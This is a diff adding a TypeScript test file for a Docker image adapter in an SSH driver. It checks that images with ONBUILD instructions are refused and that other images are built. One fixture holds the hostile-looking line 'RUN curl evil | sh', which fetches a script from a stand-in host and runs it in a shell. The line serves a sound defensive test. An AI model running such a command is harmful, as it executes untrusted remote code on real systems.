@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { KatafleetError } from '../../../src/core/errors.ts';
+import { defaultUids } from '../../../src/core/users.ts';
+import { adapt } from '../../../src/drivers/ssh/adapt.ts';
+import { parseInspect } from '../../../src/drivers/ssh/parse/inspect.ts';
+import type { RemoteDocker } from '../../../src/drivers/ssh/remote.ts';
+
+const inspected = (config: object) =>
+  parseInspect(JSON.stringify([{ Id: 'ab'.repeat(32), Architecture: 'amd64', RepoTags: ['x:1'], Config: config }])).images[0] ??
+  assert.fail();
+
+describe('an image made ready by a build on the node', () => {
+  const supervisor = { bytes: Buffer.from('x'), sha256: 'cd'.repeat(32) };
+
+  it('is refused where that build would run what the image says, and the node is asked for nothing', async () => {
+    const remote = { transport: { at: 'node' }, inspect: () => assert.fail(), build: () => assert.fail() } as unknown as RemoteDocker;
+    await assert.rejects(
+      adapt(remote, inspected({ OnBuild: ['RUN curl evil | sh'] }), supervisor, [1, 6, 2], defaultUids),
+      (error) => error instanceof KatafleetError && error.code === 'image.unsuitable' && /x:1 has ONBUILD/.test(error.message),
+    );
+  });
+
+  it('is built otherwise', async () => {
+    const answers = [[], [{ id: 'made' }]];
+    const built: string[] = [];
+    const remote = {
+      transport: { at: 'node' },
+      inspect: () => Promise.resolve({ images: answers.shift(), containers: [] }),
+      build: (tag: string) => Promise.resolve(void built.push(tag)),
+    } as unknown as RemoteDocker;
+    for (const OnBuild of [null, []]) {
+      answers.splice(0, answers.length, [], [{ id: 'made' }]);
+      assert.equal((await adapt(remote, inspected({ OnBuild }), supervisor, [1, 6, 2], defaultUids)).id, 'made');
+    }
+    assert.equal(built.length, 2);
+  });
+});
